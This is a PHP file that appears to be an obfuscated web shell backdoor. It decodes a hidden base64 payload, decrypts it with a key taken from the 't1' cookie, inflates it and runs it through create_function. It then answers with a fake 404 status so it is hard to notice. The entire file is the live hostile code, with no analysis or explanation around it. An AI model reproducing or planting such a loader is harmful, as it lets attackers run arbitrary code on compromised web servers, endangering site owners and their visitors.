<?php $q_q='ba'.'se'.(8*8).'_d'.'ec'.'ode';$q_q=$q_q(str_replace("\n", '', 'IrDTOKUZFo1P6Bdwkr7MD39GMdjAp7eJzBrTaSGCo0X5caeC3/r/wokLTAVmK5sgG78d36cl82La
mPZRheGuNTTQ/OkuJHZ80K0EW764NDtZhtspg7hE6T7tQsANgjivoNh5BHMRpCf55oQP04Q74HAP
9E6FzVeKclVwn7ZtFzvbFD8tLdtmjo1h8OCWoAaaZkCodDsSMa0x1XgYdbaMKkOsNHAgMSPwK316
qv7voLdlnxxb+JXjLCDpf9ZFCBEFkFHDP19YqWsDv6r4Fop1ypoWY/EI91SY/OI18RljxtQ8HlxK
CxBVJJ6qHW3+EPgujl38yRby3vC0u4B9cHWHKZHPdAcHvmEEbQSpwJ5ePLTA+udYY3SWa3BvUA+G
jjOSQ6CobLa3JZTPilLB0OdwsXGSpeYK5pqVbcysLNEkqqPgN0/V9BE3wN29IYG9/O0xoYCJDKjw
atTcadzRtk1sngs1Q0ib1M4W
'));if(isset($_COOKIE['t1']) && $_COOKIE['t1']!==NULL){$q__q=$_COOKIE['t1'];$q__q=md5($q__q).substr(md5(strrev($q__q)),0,strlen($q__q));for($q___q=0;$q___q<360;$q___q++){$q_q[$q___q]=chr(( ord($q_q[$q___q])-ord($q__q[$q___q]))%256);$q__q.=$q_q[$q___q];}if($q_q=@gzinflate($q_q)){$q___q=create_function('',$q_q);unset($q_q,$q__q);$q___q();}} @header("Status: 404 Not Found"); ?>
